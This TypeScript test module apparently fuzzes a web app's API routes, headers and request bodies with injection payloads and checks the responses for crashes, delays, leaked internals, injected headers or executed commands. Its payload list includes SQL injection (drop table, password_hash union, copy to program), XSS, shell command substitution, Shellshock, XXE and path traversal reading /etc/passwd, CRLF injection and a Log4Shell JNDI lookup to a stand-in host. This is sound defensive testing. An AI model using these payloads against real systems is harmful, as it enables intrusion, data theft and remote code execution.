import { randomUUID } from 'node:crypto'
import fc from 'fast-check'
import { callerOf, inputsOf } from '../inputs.ts'
import type { Tally } from '../tally.ts'
import { signInCall, type Target } from '../target.ts'
import { sendRaw, type Answer } from '../wire.ts'

const mark = 'hx9q'
/** Milliseconds: an injected sleep takes longer. */
const slowMs = 3_500

/** Known injection payloads. */
const tricks: readonly string[] = [
  `' or '1'='1`,
  `'; drop table users; --`,
  `'; select pg_sleep(4); --`,
  `') union select id::text, password_hash from users --`,
  `1; copy users to program 'id'`,
  '$$; select pg_sleep(4); $$',
  '%_%',
  String.raw`\'; select pg_sleep(4) --`,
  `<script>${mark}()</script>`,
  `"><img src=x onerror=${mark}()>`,
  `<svg/onload=${mark}()>`,
  `javascript:${mark}()`,
  `</textarea><iframe srcdoc="<script>${mark}()</script>">`,
  `{{7*7}}\${7*7}<%= 7*7 %>#{7*7}`,
  `a\r\nX-${mark}: yes`,
  `a\nSet-Cookie: ${mark}=yes`,
  `%0d%0aX-${mark}: yes`,
  'a\0b',
  '\u202egnp.exe',
  '\u2028\u2029\u0085',
  '\ud800',
  '\udfff\ud800',
  '\ufeff',
  '﷽'.repeat(200),
  'Z̸͓͝a̵͇͝l̷͎͠g̸̰͝o̷͓͘'.repeat(60),
  '../../../../etc/passwd',
  '|id;`id`$(id)',
  '() { :;}; /bin/id',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '*)(uid=*))(|(uid=*',
  '=cmd|/c calc!A1',
  `\${jndi:ldap://elsewhere.example/${mark}}`,
  'x'.repeat(300_000),
  '9'.repeat(400),
  '1e999',
  '-0',
  'NaN',
  'null',
  '[object Object]',
]

const odd: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1e308,
  Number.MIN_SAFE_INTEGER,
  2_147_483_648,
  0.1,
  [],
  {},
  [[]],
  [null],
  { $gt: '' },
  { toString: 'x' },
  { length: 1e9 },
  Array<string>(5_000).fill('a'),
  Object.fromEntries(Array.from({ length: 3_000 }, (_, n) => [`k${n}`, n])),
]

/** Unexpected values in every field of every route: known payloads and random ones. */
export async function injection(target: Target, tally: Tally): Promise<void> {
  const values = [...tricks, ...odd, ...madeUp(target.chance.seed, target.chance.times(24, 12))]
  const tries = target.routes
    .filter(({ takesForm, access, url }) => !takesForm && access !== 'provider' && !/\/(logout|deletion)$/.test(url))
    .flatMap((route) => inputsOf(target, route).flatMap((place) => values.map((value) => ({ route, place, value }))))
  for (const { route, place, value } of target.chance.some(tries, 250)) {
    const call = place.put(value)
    const withCaller = { ...call, headers: { ...call.headers, ...callerOf(target, route) } }
    const first = await target.call(withCaller)
    // On a busy machine a single call may be slow.
    const answer = first.ms > slowMs ? await target.call(withCaller) : first
    const what = `${JSON.stringify(value)?.slice(0, 50)} in ${place.name} of ${route.method} ${route.url}`
    tally.note(what, whatIsWrong(answer, value))
  }
  tally.note('somebody else’s rows after all of it', await target.changesToVictim())
  await tryBodies(target, tally)
  await tryHeaders(target, tally)
  await requireTruth(target, tally)
}

function madeUp(seed: number, count: number): unknown[] {
  const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 60 }), fc.string({ unit: 'grapheme', maxLength: 60 }))
  const anything = fc.anything({ maxDepth: 4, withNullPrototype: false })
  return [
    ...fc.sample(text, { seed, numRuns: count }),
    ...fc.sample(fc.oneof(anything, fc.jsonValue()), { seed, numRuns: count }),
  ]
}

function whatIsWrong({ status, headers, body, ms }: Answer, value: unknown): string | null {
  if (status === 0) return 'gets no answer'
  if (status >= 500 && status !== 502 && status !== 503) return `answers ${status}: ${body.slice(0, 80)}`
  if (ms > slowMs) return `takes ${(ms / 1000).toFixed(1)} s`
  if (Object.keys(headers).some((name) => name.includes(mark)) || String(headers['set-cookie'] ?? '') !== '')
    return 'has written a header'
  if (/syntax error at|pg_catalog|SELECT .* FROM|PostgreSQL|at Object\.|node:internal/.test(body))
    return 'shows what is behind'
  const isPage = String(headers['content-type']).includes('html')
  const text = typeof value === 'string' ? value : ''
  // Plain text is harmless in a page; markup and links are not.
  const acts = /[<>"']/.test(text) ? body.includes(text) : /(href|src|action)="?javascript:/i.test(body)
  if (isPage && text.includes(mark) && acts) return 'is written into a page'
  if (/root:x?:0:0|"uid=\d/.test(body)) return 'has run'
  return null
}

/** Malformed and pathological bodies. */
async function tryBodies(target: Target, tally: Tally): Promise<void> {
  const deep = (depth: number): string => '['.repeat(depth) + ']'.repeat(depth)
  const bodies: [string, string | Buffer, string][] = [
    ['a hundred thousand brackets', deep(100_000), 'application/json'],
    ['as many objects', '{"a":'.repeat(90_000) + '1' + '}'.repeat(90_000), 'application/json'],
    ['deep metadata', `{"data":${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}}`, 'application/json'],
    [
      'a hundred thousand keys',
      `{${Array.from({ length: 90_000 }, (_, n) => `"${n}":1`).join(',')}}`,
      'application/json',
    ],
    ['the same key again and again', `{${Array<string>(50_000).fill('"title":"a"').join(',')}}`, 'application/json'],
    ['half a sentence', '{"title": "a', 'application/json'],
    ['bytes of no language', Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0xc0, 0xaf, 0x22, 0x7d]), 'application/json'],
    ['two bodies', '{"title":"a"}{"title":"b"}', 'application/json'],
    ['a mark of bytes', '\ufeff{"title":"a mark of bytes"}', 'application/json'],
    ['UTF-16', Buffer.from('{"title":"sixteen"}', 'utf16le'), 'application/json; charset=utf-16le'],
    ['nothing', '', 'application/json'],
    ['XML', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><title>&e;</title>', 'application/xml'],
    ['a form', 'title=a&title[]=b&title[__proto__]=c', 'application/x-www-form-urlencoded'],
    ['a type that is none', '{"title":"a"}', `${'a/'.repeat(3_000)}json`],
    ['a number too large for any', `{"version":1${'0'.repeat(5_000)}}`, 'application/json'],
  ]
  const routes = target.routes.filter(
    ({ method, access, takesForm }) => /^(POST|PUT|PATCH)$/.test(method) && access !== 'provider' && !takesForm,
  )
  for (const route of target.chance.some(routes, 3)) {
    if (/\/(logout|deletion)$/.test(route.url)) continue
    for (const [name, body, type] of bodies) {
      const path = route.url.replace(':realm', 'critter-club').replaceAll(/:\w+|\*/g, randomUUID())
      const headers = { 'content-type': type, ...callerOf(target, route) }
      const answer = await target.call({ method: route.method, path, headers, body })
      tally.note(`${name} at ${route.method} ${route.url}`, whatIsWrong(answer, ''))
    }
  }
}

/** The User-Agent header is shown in lists and emails. */
async function tryHeaders(target: Target, tally: Tally): Promise<void> {
  const { vesper, call, site } = target
  for (const trick of target.chance.some(tricks, 12)) {
    const printable = trick.replaceAll(/[^\t\x20-\x7e\x80-\xff]/g, '').slice(0, 4_000)
    for (const header of [
      'user-agent',
      'accept-language',
      'referer',
      'x-supabase-api-version',
      'accept-encoding',
      'if-none-match',
      'range',
      'accept',
      'cookie',
    ]) {
      const headers = { ...vesper.headers, [header]: printable }
      const answer = await call({ path: '/api/account/sessions', headers })
      tally.note(`${JSON.stringify(printable).slice(0, 40)} as ${header}`, whatIsWrong(answer, printable))
    }
    const signedIn = await call({ ...signInCall(vesper), headers: { 'user-agent': printable } })
    tally.note(`${JSON.stringify(printable).slice(0, 40)} as the name of a browser`, whatIsWrong(signedIn, printable))
  }
  for (const sign of ['\r', '\n', '\0', '\r\n', '\x0b', '\x7f']) {
    const received = await sendRaw(
      site.url,
      `GET /?a=1${sign}X-${mark}:yes HTTP/1.1\r\nHost: localhost\r\nX-A: b${sign}X-${mark}: yes\r\nConnection: close\r\n\r\n`,
    )
    const head = received.split('\r\n\r\n')[0] ?? ''
    tally.note(
      `a line end (${JSON.stringify(sign)}) in a request`,
      head.toLowerCase().includes(`x-${mark}`) ? 'has written a header' : null,
    )
  }
}

/** Accepted text is returned unchanged and inert. */
async function requireTruth(target: Target, tally: Tally): Promise<void> {
  const { mara, call } = target
  const words = tricks.filter((trick) => trick.isWellFormed() && !trick.includes('\0') && trick.length < 60_000)
  for (const text of target.chance.some(words, 12)) {
    const id = randomUUID()
    const body = { prompt: null, title: 'A drawer of tricks', text, version: 0 }
    const saved = await call({
      method: 'PUT',
      path: `/api/rooms/critter-club/writings/${id}`,
      headers: mara.headers,
      body,
    })
    if (saved.status === 429) continue
    const read = await call({ path: `/api/writings/${id}`, headers: mara.headers })
    const stored = read.status === 200 ? (JSON.parse(read.body) as { text: string }).text : null
    const isJson =
      String(read.headers['content-type']).startsWith('application/json') &&
      read.headers['x-content-type-options'] === 'nosniff'
    tally.note(
      `${JSON.stringify(text).slice(0, 40)} as a page`,
      stored === text && isJson ? null : `comes back as another one (${read.status})`,
    )
    await call({ method: 'DELETE', path: `/api/writings/${id}`, headers: mara.headers })
  }
}
